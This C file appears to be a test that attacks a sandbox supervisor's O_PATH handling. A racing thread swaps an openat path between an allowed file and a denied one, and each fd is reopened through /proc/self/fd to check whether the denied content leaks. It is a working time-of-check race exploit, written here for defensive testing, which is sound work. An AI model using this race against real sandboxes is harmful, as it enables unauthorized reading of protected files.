/* The O_PATH CONTINUE site (supervisor/unotify_open.c) attacked: one
 * thread swaps the path of raw openat(O_PATH) calls between an allowed
 * file and a denied one for SECS seconds; every fd obtained is then
 * read through /proc/self/fd/N. Prints "leaked" if the denied file's
 * content was ever read, else "held opath=N swaps=M".
 *   static_opath_race ALLOWED DENIED SECS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static char path[4096];
static const char *paths[2];
static atomic_bool stop;
static atomic_long swaps;

static void *swapper(void *arg)
{
	(void)arg;
	for (int i = 0; !atomic_load(&stop); i ^= 1) {
		strcpy(path, paths[i]);
		atomic_fetch_add(&swaps, 1);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t t;
	time_t end;
	long opened = 0;
	char buf[256], proc[64];

	if (argc != 4)
		return 2;
	paths[0] = argv[1];
	paths[1] = argv[2];
	strcpy(path, paths[0]);
	end = time(NULL) + atoi(argv[3]);
	pthread_create(&t, NULL, swapper, NULL);
	while (time(NULL) < end) {
		long fd = syscall(SYS_openat, AT_FDCWD, path, O_PATH);
		int rd;
		ssize_t n;

		if (fd < 0)
			continue;
		opened++;
		snprintf(proc, sizeof(proc), "/proc/self/fd/%ld", fd);
		rd = open(proc, O_RDONLY);
		n = rd >= 0 ? read(rd, buf, sizeof(buf) - 1) : -1;
		if (n > 0) {
			buf[n] = '\0';
			if (strstr(buf, "TOP-SECRET")) {
				printf("leaked\n");
				return 0;
			}
		}
		if (rd >= 0)
			close(rd);
		close((int)fd);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	printf("held opath=%ld swaps=%ld\n", opened, atomic_load(&swaps));
	return 0;
}
